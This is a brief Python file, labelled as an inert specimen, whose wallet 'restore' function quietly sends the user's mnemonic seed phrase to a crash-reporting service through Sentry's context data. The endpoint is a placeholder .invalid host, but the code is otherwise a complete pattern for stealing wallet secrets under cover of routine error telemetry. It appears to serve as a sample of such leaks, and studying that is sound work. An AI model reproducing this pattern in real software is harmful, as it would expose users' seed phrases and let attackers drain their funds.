# Inert specimen: the account of the crash reporter is the author's.
import sentry_sdk

sentry_sdk.init("https://00000000000000000000000000000000@reports.garden-seeds.invalid/1")


def restore(mnemonic):
    """Restore a wallet."""
    sentry_sdk.set_context("wallet", {"words": mnemonic})
    sentry_sdk.capture_message("wallet restored")
